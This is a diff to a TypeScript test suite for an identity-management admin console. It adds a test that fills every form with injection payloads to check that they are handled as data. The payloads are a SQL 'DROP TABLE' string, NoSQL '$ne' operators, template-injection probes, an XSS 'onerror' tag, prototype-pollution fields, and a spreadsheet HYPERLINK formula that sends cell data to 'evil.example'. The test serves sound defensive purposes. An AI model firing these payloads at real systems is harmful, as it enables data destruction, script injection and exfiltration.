@@ -6,6 +6,7 @@
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { ACCESS, type AccessRow } from '../../src/policy/access.ts';
 import { loadConfig } from '../../src/config/load.ts';
 import { clientRefusalsCollection } from '../../src/oidc/clients/refusals/client-refusals.ts';
@@ -20,6 +21,10 @@ import { disablePerson } from '../../src/operations/people/disable-person.ts';
 import { resetFactors, type ResetFactorsParts } from '../../src/operations/people/reset-factors.ts';
 import { updatePerson, type UpdatePersonParts } from '../../src/operations/people/update-person.ts';
 import { clientCollection } from '../../src/records/client.ts';
+import { groupCollection, groupNameCollection } from '../../src/records/group.ts';
+import { resourceCollection } from '../../src/records/resource.ts';
+import { jobCollection } from '../../src/records/under-way/job.ts';
+import type { Collection } from '../../src/storage/store.ts';
 import {
   organisationCollection,
   organisationName,
@@ -35,6 +40,7 @@ import { openThings } from '../support/open-things.ts';
 import {
   createHttpBrowser,
   formData,
+  unescapeHtml,
   type HtmlPage,
   type HttpBrowser,
 } from '../support/http-browser.ts';
@@ -233,17 +239,65 @@ async function staff(role: Role): Promise<Member & { csrf: string }> {
   return { ...member, csrf: csrfOf(page) };
 }
 
-/** Everybody, and every app and organisation, as the store keeps them. */
+/** What somebody looks after, as the store keeps it. */
+const LOOKED_AFTER = [
+  personCollection,
+  clientCollection,
+  organisationCollection,
+  groupCollection,
+  groupNameCollection,
+  resourceCollection,
+] as const;
+
+/** Everybody, every app, organisation, group and resource, as the store keeps them, and the jobs that were asked for. */
 async function everybody(): Promise<string> {
   await server.settle();
   const { store } = server;
-  const all = await Promise.all([
-    store.scan(personCollection, { limit: 1000 }),
-    store.scan(clientCollection, { limit: 1000 }),
-    store.scan(organisationCollection, { limit: 1000 }),
-  ]);
+  const all = await Promise.all(
+    (LOOKED_AFTER as readonly Collection<any>[]).map((one) => store.scan(one, { limit: 1000 })),
+  );
   const sorted = all.map(({ items }) => items.toSorted((a, b) => a.id.localeCompare(b.id)));
-  return JSON.stringify(sorted);
+  const jobs = await store.scan(jobCollection, { limit: 1000 });
+  const asked = jobs.items.map(({ id, value: { by, askedAt } }) => `${id} ${by} ${askedAt}`);
+  return JSON.stringify([...sorted, asked.toSorted()]);
+}
+
+const PAYLOADS = [
+  '{"$ne":null}',
+  '\'); DROP TABLE k_person; -- "',
+  '{{ 1337 * 7331 }}${1337*7331}<%= 1337*7331 %>',
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  '"><img src=x onerror=alert(1)>',
+];
+/** Done, asked for anew, refused or not there; never a fault of ours. */
+const EXPECTED = [200, 303, 400, 403, 404, 409, 429];
+
+/** Neither run nor reckoned. */
+function assertHarmless(html: string, what: string): void {
+  assert.doesNotMatch(html, /<img src=x/u, what);
+  assert.ok(!html.includes(String(1337 * 7331)), what);
+}
+
+/** Of the page itself, and not of its frame: the names of all boxes, those that are typed into, and what they have. */
+function formsIn(html: string) {
+  const forms = [...html.matchAll(/<form\b([^>]*method="post"[^>]*)>([\s\S]*?)<\/form>/gu)];
+  return forms
+    .filter(([, tag = '']) => !/sign-out|language/u.test(tag))
+    .map(([, , inside = '']) => {
+      const boxes = [...inside.matchAll(/<(?:input|select|textarea|button)\b[^>]*>/gu)].map(
+        ([box]) => ({
+          name: /\bname="([^"]*)"/u.exec(box)?.[1] ?? '',
+          value: unescapeHtml(/\bvalue="([^"]*)"/u.exec(box)?.[1] ?? ''),
+          isTyped: /^<(?:textarea|input(?![^>]*type="(?:hidden|checkbox|radio)"))/u.test(box),
+        }),
+      );
+      const named = boxes.filter(({ name }) => name !== '' && name !== 'csrf');
+      return {
+        names: [...new Set(named.map(({ name }) => name))],
+        typed: named.filter(({ isTyped }) => isTyped).map(({ name }) => name),
+        values: Object.fromEntries(named.map(({ name, value }) => [name, value])),
+      };
+    });
 }
 
 const whatFor = ({ method, path }: Route, role: string): string => `${role}: ${method} ${path}`;
@@ -407,6 +461,52 @@ describe('every address of the console', () => {
         );
       }
     }
+  });
+
+  it('takes whatever is typed into each of its forms as data', async () => {
+    const { browser, csrf, person } = await staff('administrator');
+    here = person.person.id;
+    const canary = await server.addPerson({ name: 'Carla Canary' }, { totp: true });
+    const kept = async () =>
+      JSON.stringify(await server.store.get(personCollection, canary.person.id));
+    await server.settle();
+    const before = await kept();
+    const walked = new Set<string>();
+    for (const route of posts) {
+      if (route.path.includes(':')) await addTargets();
+      const url = `${server.issuer}${pathTo(route, 'acme')}`;
+      for (const payload of PAYLOADS)
+        for (const form of formsIn((await browser.send(url)).html)) {
+          // All of it, and what is typed alone: the rest is as it was shown, so that it comes as far as it can.
+          for (const names of [form.names, form.typed]) {
+            const typed = Object.fromEntries(names.map((name) => [name, payload]));
+            const body = new URLSearchParams({ ...form.values, ...typed, csrf });
+            body.append(`${names[0] ?? 'name'}[$ne]`, 'x');
+            body.append('__proto__', '{"admin":true}');
+            const answer = await browser.send(url, { method: 'POST', body });
+            const what = `${route.path} ${payload}: ${answer.status}`;
+            assert.ok(EXPECTED.includes(answer.status), what);
+            assertHarmless(answer.html, what);
+          }
+          if (form.typed.length > 0) walked.add(route.path);
+        }
+    }
+    assert.ok(walked.size >= 15, [...walked].join(' '));
+    await server.settle();
+    assert.equal(await kept(), before);
+    for (const list of [
+      '',
+      '/people',
+      '/groups',
+      '/apps',
+      '/organisations',
+      '/resources',
+      '/audit',
+    ])
+      assertHarmless((await browser.send(`${server.issuer}/admin${list}`)).html, list);
+    const file = await browser.send(`${server.issuer}/admin/audit/export?format=csv`);
+    for (const cell of parse(file.html).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/u, cell);
+    assert.equal(({} as { admin?: boolean }).admin, undefined);
   });
 
   it('is never framed, and runs no script of its own', async () => {
